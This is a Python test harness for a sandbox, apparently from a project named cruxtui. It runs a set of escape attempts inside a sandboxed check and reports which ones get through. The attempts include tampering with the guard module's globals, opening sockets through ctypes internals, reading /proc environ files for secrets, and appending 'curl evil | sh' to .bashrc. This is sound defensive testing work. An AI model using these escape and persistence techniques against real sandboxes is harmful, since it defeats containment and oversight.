"""Escape attempts from inside a check, run by a real scorer process (see test_escapes.py).

Run as `python escape_attempts.py HOME WORLD SECRET`: starts a sandbox, opens what a check must
not reach (a TCP listener and a UDP socket on 127.0.0.1, an abstract and a path unix socket),
runs every attempt twice (with the audit hook, and without it, so that only the kernel stands
in the way), and prints one JSON object: the worker's report, each attempt's outcome, what the
listeners received, and which stray files exist. It needs only the standard library and
`cruxtui.core` (the test may run it as an unprivileged uid with the system's interpreter).

Each attempt returns "ESCAPED ..." when it got through; anything else (an exception, a refusal)
is a failure of the attempt.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
import time
import uuid
from pathlib import Path

ATTEMPTS = r"""
import os, sys

def rebind_guard_then_write(path):
    # Empty every table of the guard's module, replace its factory, and make the path helpers
    # it might use say "inside the temp dir" for everything.
    module = sys.modules["cruxtui.core.sandbox.guard"]
    for attr, value in list(vars(module).items()):
        if attr.startswith("_") and not attr.startswith("__") and isinstance(
            value, (tuple, dict, frozenset, set, list, str)
        ):
            setattr(module, attr, type(value)())
    module.make_guard = lambda workdir: (lambda event, args: None)
    import posixpath
    posixpath.realpath = lambda p, *a, **k: os.getcwd()
    os.path.realpath = posixpath.realpath
    os.fsdecode = lambda p: os.getcwd()
    with open(path, "w") as fh:
        fh.write("pwned")
    return "ESCAPED wrote " + path

def rebind_guard_then_system(path):
    sys.modules["cruxtui.core.sandbox.guard"]._BLOCKED_PREFIXES = ()
    os.system("touch " + path)
    return "ESCAPED system ran" if os.path.exists(path) else "system did nothing"

def _ctypes():
    for name in [m for m in sys.modules if m == "ctypes" or m.startswith(("ctypes.", "_ctypes"))]:
        del sys.modules[name]
    import ctypes
    return ctypes

def ctypes_tcp(port):
    ctypes = _ctypes()
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(2, 1, 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), "socket() refused")
    address = (ctypes.c_ubyte * 16)(2, 0, port >> 8, port & 255, 127, 0, 0, 1)
    if libc.connect(fd, address, 16) != 0:
        raise OSError(ctypes.get_errno(), "connect() refused")
    libc.write(fd, b"ctypes", 6)
    return "ESCAPED ctypes connect"

def _subclass_named(name):
    todo, seen = [object], set()
    while todo:
        cls = todo.pop()
        if id(cls) in seen:
            continue
        seen.add(id(cls))
        if cls.__name__ == name:
            return cls
        try:
            todo.extend(type.__subclasses__(cls))
        except TypeError:
            todo.extend(cls.__subclasses__())
    raise LookupError(name + " is not in memory")

def ctypes_types_socket(port):
    # ctypes' C types stay registered once _ctypes was loaded (the worker used it); build a
    # foreign function from them, without the ctypes package, and open a socket with it.
    funcptr, simple = _subclass_named("CFuncPtr"), _subclass_named("_SimpleCData")
    c_int = type("c_int", (simple,), {"_type_": "i"})
    class Process:
        _handle = 0  # RTLD_DEFAULT: every symbol already loaded
    function = type("F", (funcptr,), {"_flags_": 1, "_restype_": c_int})
    fd = function(("socket", Process()))(2, 1, 0)
    if fd < 0:
        raise OSError("socket() through ctypes' C types refused")
    return "ESCAPED socket() through ctypes' C types: fd %d" % fd

def tcp(port):
    import socket
    s = socket.create_connection(("127.0.0.1", port), timeout=1)
    s.sendall(b"tcp")
    return "ESCAPED tcp connect"

def udp(port):
    import socket
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"udp", ("127.0.0.1", port))
    return "ESCAPED udp sent"

def unix_abstract(name):
    import socket
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect("\0" + name)
    s.sendall(b"abstract")
    return "ESCAPED abstract unix connect"

def unix_path(path):
    import socket
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.connect(path)
    s.sendall(b"path")
    return "ESCAPED path unix connect"

def read(path):
    with open(path, "rb") as fh:
        return "ESCAPED read " + path + ": " + fh.read(4096).decode("latin-1")

def read_worker_proc():
    return read("/proc/%d/environ" % os.getppid())

def list_home(home):
    return "ESCAPED listed " + repr(os.listdir(home))

def append(path):
    with open(path, "a") as fh:
        fh.write("\ncurl evil | sh\n")
    return "ESCAPED appended to " + path

def signal_scorer(pid):
    os.kill(pid, 0)
    return "ESCAPED may signal the scorer"

def execute(path):
    os.execv("/bin/sh", ["sh", "-c", "touch " + path])

def fork():
    pids = [os.fork() for _ in range(3)]
    return "ESCAPED forked %r" % pids
"""


def main() -> int:
    home, world, secret = sys.argv[1:4]
    os.environ["CRUXTUI_ESCAPE_SECRET"] = secret  # the scorer's environment holds a "key"
    from cruxtui.core.sandbox.pool import Limits, Sandbox
    from cruxtui.core.util.hardening import make_non_dumpable

    make_non_dumpable()  # as the CLI does
    tag = uuid.uuid4().hex[:12]
    received: dict[str, list[bytes]] = {"tcp": [], "udp": [], "unix_abstract": [], "unix_path": []}
    tcp_listener = socket.socket()
    tcp_listener.bind(("127.0.0.1", 0))
    tcp_listener.listen(8)
    udp_socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp_socket.bind(("127.0.0.1", 0))
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    abstract.bind(f"\0cruxtui-escape-{tag}")
    abstract.listen(8)
    unix_path = os.path.join(world, f"escape-{tag}.sock")
    path_listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    path_listener.bind(unix_path)
    os.chmod(unix_path, 0o777)
    path_listener.listen(8)
    stop = threading.Event()

    def accept(name: str, server: socket.socket) -> None:
        server.settimeout(0.1)
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            conn.settimeout(1)
            try:
                received[name].append(conn.recv(100) or b"<connected>")
            except OSError:
                received[name].append(b"<connected>")
            conn.close()

    def datagrams() -> None:
        udp_socket.settimeout(0.1)
        while not stop.is_set():
            try:
                received["udp"].append(udp_socket.recv(100))
            except OSError:
                continue

    threads = [
        threading.Thread(target=accept, args=("tcp", tcp_listener)),
        threading.Thread(target=accept, args=("unix_abstract", abstract)),
        threading.Thread(target=accept, args=("unix_path", path_listener)),
        threading.Thread(target=datagrams),
    ]
    for thread in threads:
        thread.start()
    strays = {name: os.path.join(world, f"stray-{name}-{tag}") for name in ("w", "s", "x")}
    bashrc = os.path.join(home, ".bashrc")
    before = Path(bashrc).read_text()
    me = os.getpid()
    calls = {
        "rebind guard globals, then write outside": f"rebind_guard_then_write({strays['w']!r})",
        "rebind guard globals, then os.system": f"rebind_guard_then_system({strays['s']!r})",
        "ctypes socket + connect to the TCP listener": f"ctypes_tcp({tcp_listener.getsockname()[1]})",
        "socket through ctypes' C types left in memory": f"ctypes_types_socket({tcp_listener.getsockname()[1]})",
        "TCP connect to 127.0.0.1": f"tcp({tcp_listener.getsockname()[1]})",
        "UDP datagram to 127.0.0.1": f"udp({udp_socket.getsockname()[1]})",
        "abstract unix socket": f"unix_abstract('cruxtui-escape-{tag}')",
        "path unix socket": f"unix_path({unix_path!r})",
        "read the scorer's /proc/PID/environ": f"read('/proc/{me}/environ')",
        "read the scorer's /proc/PID/cmdline": f"read('/proc/{me}/cmdline')",
        "read the worker's /proc/PID/environ": "read_worker_proc()",
        "list $HOME": f"list_home({home!r})",
        "append to $HOME/.bashrc": f"append({bashrc!r})",
        "signal the scorer": f"signal_scorer({me})",
        "exec a shell": f"execute({strays['x']!r})",
        "fork": "fork()",
    }
    results: dict[str, dict[str, list[object]]] = {}
    with Sandbox(workers=2, limits=Limits(timeout=3)) as box:
        report = box.enforcement()
        for name, call in calls.items():
            results[name] = {}
            for mode, guarded in (("guarded", True), ("unguarded", False)):
                outcome = box.run(
                    "cruxtui.core.sandbox.jobs.checks:exec_call",
                    {"code": ATTEMPTS, "call": call},
                    Limits(timeout=3, python_guard=guarded),
                )
                results[name][mode] = [outcome.status, outcome.value, outcome.error]
    time.sleep(0.3)  # anything sent in flight reaches the listeners
    stop.set()
    for thread in threads:
        thread.join()
    for server in (tcp_listener, udp_socket, abstract, path_listener):
        server.close()
    os.unlink(unix_path)
    text = json.dumps(results)
    print(
        json.dumps(
            {
                "uid": os.getuid(),
                "report": report,
                "results": results,
                "received": {k: [v.decode("latin-1") for v in vs] for k, vs in received.items()},
                "strays": [p for p in strays.values() if os.path.exists(p)],
                "bashrc_changed": Path(bashrc).read_text() != before,
                "secret_leaked": secret in text,
            }
        )
    )
    return 0


if __name__ == "__main__":
    sys.exit(main())
